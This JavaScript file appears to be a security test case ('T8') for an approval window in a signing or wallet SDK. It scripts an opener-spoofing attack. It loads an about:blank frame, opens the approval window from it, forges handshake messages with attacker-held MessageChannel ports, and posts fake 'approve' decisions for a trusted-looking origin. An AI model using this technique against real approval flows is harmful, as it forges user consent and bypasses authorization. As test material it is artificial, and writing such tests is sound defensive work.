/** T8: opens the approval window from a blank document, then loads the frame in its place, as the opener. */
const approveUrl = `${config.frameUrl}/approve`
let stolen

/** Lists every message that the frame and its window exchange, with the attacker's ports. */
function forgeTo(post) {
  const prompt = { origin: 'https://trusted.example', view: { kind: 'message', risk: 'low' } }
  const { port1, port2 } = new MessageChannel()
  for (const id of [0, 1, 2]) {
    for (const decision of ['approve', 'reject']) port1.postMessage({ id, decision })
    port1.postMessage({ id, prompt, theme: {} })
  }
  const messages = [
    ['@latchkey/WINDOW_HELLO'],
    ['@latchkey/WINDOW_WELCOME'],
    ['@latchkey/WINDOW_WELCOME', [port2]],
    [{ id: 1, decision: 'approve' }],
    [{ id: 1, prompt, theme: {} }],
  ]
  for (const [message, ports = []] of messages) post(message, ports)
  return messages.length
}

/** Posts to the window and the frame; returns the number of messages. */
globalThis.forgeWindow = (rounds) => {
  let forged = 0
  for (let round = 0; round < rounds; round += 1) {
    forged += forgeTo((message, ports) => stolen.postMessage(message, '*', ports))
    forged += forgeTo((message, ports) => iframe.contentWindow.postMessage(message, '*', ports))
  }
  return forged
}

/** Opens the window, posts to it as its opener, then loads the frame in its place. */
globalThis.stealWindow = async (rounds) => {
  const loaded = () => new Promise((resolve) => iframe.addEventListener('load', resolve))
  const blank = loaded()
  iframe.src = 'about:blank'
  await blank
  stolen = iframe.contentWindow.open(approveUrl)
  await new Promise((resolve) => setTimeout(resolve, 1_500))
  // Compiled in the blank document, so that its messages have that window as their source.
  const postAsOpener = iframe.contentWindow.Function(
    'to',
    'message',
    'ports',
    'to.postMessage(message, "*", ports)',
  )
  let forged = 0
  for (let round = 0; round < rounds; round += 1) {
    forged += forgeTo((message, ports) => postAsOpener(stolen, message, ports))
  }
  const ready = new Promise((resolve) => {
    resolveReady = resolve
  })
  iframe.src = `${config.frameUrl}/sdk?${query}`
  await ready
  return forged
}

/** Reloads the window, which then greets its opener, now the frame. */
globalThis.reloadStolen = () => {
  stolen.location = approveUrl
}
